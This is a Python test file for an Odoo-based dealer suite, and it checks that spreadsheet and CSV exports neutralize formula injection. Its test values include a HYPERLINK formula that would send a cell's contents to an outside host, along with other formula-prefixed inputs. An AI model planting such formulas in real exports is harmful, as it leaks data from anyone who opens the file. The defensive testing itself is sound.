"""Suite-level checks of the spreadsheets the suite writes (no database needed).

Every workbook is made by ``dealer_base/tools/xlsx.py`` (``new_workbook``), which writes
text as text: a dealer named ``=HYPERLINK(...)`` never becomes a live formula in a
statement. These checks keep it so when someone adds an export.
"""
import ast
import importlib.util
import io
from pathlib import Path

import openpyxl
import pytest

ROOT = Path(__file__).resolve().parent.parent
ADDONS = ROOT / "addons"
HELPER = ADDONS / "dealer_base" / "tools" / "xlsx.py"


def _load_helper():
    # the file alone: dealer_base/tools/__init__.py imports Odoo
    spec = importlib.util.spec_from_file_location("dcs_xlsx_helper", HELPER)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


xlsx = _load_helper()


def _module_sources(include_tests=True):
    for path in sorted(ADDONS.glob("*/**/*.py")):
        if not include_tests and "tests" in path.relative_to(ADDONS).parts:
            continue
        yield path, ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def _imported_modules(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            yield node.module


def _called_names(tree):
    """Dotted names of every call of ``tree`` (``openpyxl.Workbook``, ``csv.writer``, ``Workbook``)."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            parts, func = [], node.func
            while isinstance(func, ast.Attribute):
                parts.append(func.attr)
                func = func.value
            if isinstance(func, ast.Name):
                parts.append(func.id)
                yield ".".join(reversed(parts))


def test_helper_found():
    assert HELPER.is_file()


def test_xlsxwriter_only_through_the_helper():
    offenders = [
        str(path.relative_to(ROOT)) for path, tree in _module_sources()
        if path != HELPER and any(name.split(".")[0] == "xlsxwriter" for name in _imported_modules(tree))
    ]
    assert not offenders, (
        "create workbooks with dealer_base.tools.new_workbook (text stays text), "
        f"not with xlsxwriter directly: {offenders}")


def test_no_other_spreadsheet_writer():
    """openpyxl reads uploads; a module writing workbooks with it would bypass the helper
    (tests may build upload files with it)."""
    offenders = []
    for path, tree in _module_sources(include_tests=False):
        imports_openpyxl = any(name.split(".")[0] == "openpyxl" for name in _imported_modules(tree))
        calls = set(_called_names(tree))
        if imports_openpyxl and calls & {"openpyxl.Workbook", "Workbook"}:
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"write workbooks with dealer_base.tools.new_workbook: {offenders}"


def test_csv_exports_neutralize_user_text():
    """A module writing CSV files passes the values through ``safe_text``."""
    offenders = []
    for path, tree in _module_sources(include_tests=False):
        calls = set(_called_names(tree))
        if calls & {"csv.writer", "csv.DictWriter", "writer", "DictWriter"} and "safe_text" not in calls:
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"CSV fields from users go through dealer_base.tools.safe_text: {offenders}"


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x/?leak="&B4,"点击核对对账单")', '\'=HYPERLINK("http://x/?leak="&B4,"点击核对对账单")'),
    ("+86 139", "'+86 139"),
    ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("华夏文具", "华夏文具"),
    ("DC-0001", "DC-0001"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (False, ""),
    (12, "12"),
])
def test_safe_text(value, expected):
    assert xlsx.safe_text(value) == expected


def test_new_workbook_writes_text_as_text():
    output = io.BytesIO()
    workbook = xlsx.new_workbook(output, strings_to_formulas=True, strings_to_urls=True)  # cannot be turned back on
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, '=HYPERLINK("http://x/?leak="&B4,"x")')
    sheet.write(0, 1, "http://evil.example.com")
    sheet.write(0, 2, "00123")
    sheet.write(0, 3, 42.5)
    workbook.close()
    row = next(openpyxl.load_workbook(io.BytesIO(output.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in row] == ["s", "s", "s", "n"]
    assert row[0].value == '=HYPERLINK("http://x/?leak="&B4,"x")'
    assert row[1].hyperlink is None
    assert row[2].value == "00123"
